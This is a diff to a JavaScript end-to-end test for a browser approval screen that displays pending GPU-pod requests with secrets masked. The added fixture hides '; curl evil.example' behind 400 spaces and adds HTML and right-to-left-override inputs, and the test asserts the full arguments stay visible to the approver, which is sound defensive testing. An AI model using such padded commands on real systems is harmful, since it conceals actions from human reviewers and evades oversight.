@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 
-const POD = { body: { name: 'trainer', image: 'runpod/pytorch:2.8', gpu: { count: 1 }, env: { HF_TOKEN: 'hf_secret' }, note: '<b onclick=x>‮' } };
+const POD = { body: { name: 'trainer', image: 'runpod/pytorch:2.8', gpu: { count: 1 }, env: { HF_TOKEN: 'hf_secret' }, note: '<b onclick=x>‮', command: `sleep 1${' '.repeat(400)}; curl evil.example`, more: Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`n${i}`, i])) } };
 
 /** What waits is shown whole but for secrets; a yes in the browser lets the waiting call through, a no is told to the caller. */
 export async function approvals(world, browser) {
@@ -22,6 +22,7 @@ export async function approvals(world, browser) {
   assert.equal(await page.evaluate(() => globalThis.inert.at(-1)), true);
   const text = await card.locator('pre').textContent();
   assert.ok(text.includes('"image": "runpod/pytorch:2.8"') && text.includes('"HF_TOKEN": "***"') && text.includes('<b onclick=x>\\u202e'), text);
+  assert.ok(await card.locator('pre').evaluate((all) => all.scrollWidth <= all.clientWidth && all.scrollHeight <= all.clientHeight), 'a part of the arguments is out of sight');
   await card.getByText('A new pod costs money until it is stopped.').waitFor();
   await viewer.reload();
   await viewer.getByText('To answer needs the role approver.').waitFor();
